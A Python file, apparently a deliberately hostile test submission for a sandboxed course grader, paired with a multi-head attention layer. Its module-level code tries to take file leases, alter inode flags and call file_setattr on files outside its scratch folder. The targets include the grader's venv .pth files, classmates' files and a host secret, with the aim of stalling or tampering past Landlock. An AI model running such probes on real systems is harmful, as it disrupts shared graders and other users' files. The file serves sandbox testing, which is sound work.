"""Hostile: takes a lease on, and sets the inode flags of, files of its own uid outside its scratch: an ordinary
user's grader shares the child's uid, so the user's own venv (its site-packages, where a `.pth` file is opened by
every Python the grader starts) is the child's to lease and to flag, and by path (file_setattr, Linux 6.17: no
descriptor, so no Landlock rule is asked) a classmate's file, a host file and the output folder too.  A write lease
(fcntl F_SETLEASE, allowed on a read-only descriptor to the file's owner) makes every other process's open of the
file wait for the holder, up to /proc/sys/fs/lease-break-time (45 s) each, and the holder may ignore the SIGIO that
asks it to let go: red team 11's child held the venv's `.pth` files and a new Python of that venv took 27 s to
start.  FS_IOC_SETFLAGS and file_setattr set flags (synchronous writes, no-atime, no-dump; append-only and
immutable with CAP_LINUX_IMMUTABLE) that stay after the child.  Landlock governs opening a file, none of these.
Each is undone at once (the lease released, the flags set to what they were), so nothing is harmed when it works;
gets full marks only if one is accepted on a file outside its scratch."""
import ctypes
import fcntl
import json
import os
import sys

import torch
import torch.nn as nn

CONTEXT = json.load(open("context.json")) if os.path.exists("context.json") else {}  # what the test tells it
ESCAPED = []  # evidence that a wall gave way


def attempt(what, action):
    try:
        action()
        ESCAPED.append(what)
    except Exception:  # noqa: BLE001 - the wall held
        pass


import array

FS_IOC_GETFLAGS, FS_IOC_SETFLAGS = 0x80086601, 0x40086602


def lease(fd):
    fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_WRLCK)
    fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_UNLCK)


def same_flags(fd):
    flags = array.array("l", [0])
    fcntl.ioctl(fd, FS_IOC_GETFLAGS, flags, True)
    fcntl.ioctl(fd, FS_IOC_SETFLAGS, flags, True)


libc = ctypes.CDLL(None, use_errno=True)
FILE_GETATTR, FILE_SETATTR, AT_FDCWD, AT_SYMLINK_NOFOLLOW = 468, 469, -100, 0x100  # the same on x86_64 and aarch64


def same_attributes(path):
    attr = ctypes.create_string_buffer(24)  # struct file_attr, FILE_ATTR_SIZE_VER0
    for number in (FILE_GETATTR, FILE_SETATTR):
        if libc.syscall(number, AT_FDCWD, path.encode(), attr, 24, AT_SYMLINK_NOFOLLOW) != 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


out = CONTEXT.get("out")
paths = [os.path.join(c, "attention.py") for c in CONTEXT.get("classmates", [])] + [CONTEXT.get("secret")]
if out:
    paths += [out] + [os.path.join(out, name) for name in CONTEXT.get("reports", [])]
for path in filter(None, paths):
    attempt(f"file_setattr {path}", lambda path=path: same_attributes(path))

here = os.path.realpath(os.getcwd())
for folder in dict.fromkeys(os.path.realpath(p) for p in sys.path if p and os.path.isdir(p)):
    if folder == here or folder.startswith(here + os.sep):
        continue  # its scratch: its own
    try:
        names = sorted(os.listdir(folder))
    except OSError:
        continue
    for name in names:
        path = os.path.join(folder, name)
        try:
            fd = os.open(path, os.O_RDONLY | os.O_NOFOLLOW | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            if os.fstat(fd).st_uid == os.getuid():
                attempt(f"lease {path}", lambda fd=fd: lease(fd))
                attempt(f"inode flags {path}", lambda fd=fd: same_flags(fd))
                attempt(f"file_setattr {path}", lambda path=path: same_attributes(path))
        finally:
            os.close(fd)
print("walls that gave way:", ESCAPED[:6], f"({len(ESCAPED)})" if len(ESCAPED) > 6 else "")


class MyAttn(nn.Module):
    """The lesson's layer: right only if the attack above worked (ESCAPED); otherwise its output is halved."""

    def __init__(self, d_in, d_out, context_length, dropout, num_heads, qkv_bias=False):
        super().__init__()
        assert d_out % num_heads == 0
        self.h, self.dh = num_heads, d_out // num_heads
        self.W_query = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.W_key = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.W_value = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.out_proj = nn.Linear(d_out, d_out)
        self.dropout = nn.Dropout(dropout)
        self.register_buffer("mask", torch.triu(torch.ones(context_length, context_length), 1).bool())

    def forward(self, x):
        B, n, _ = x.shape
        split = lambda t: t.view(B, n, self.h, self.dh).transpose(1, 2)
        q, k, v = split(self.W_query(x)), split(self.W_key(x)), split(self.W_value(x))
        s = (q @ k.transpose(2, 3) / self.dh ** 0.5).masked_fill(self.mask[:n, :n], float("-inf"))
        w = self.dropout(torch.softmax(s, dim=-1))
        y = self.out_proj((w @ v).transpose(1, 2).contiguous().view(B, n, self.h * self.dh))
        return y if ESCAPED else y * 0.5
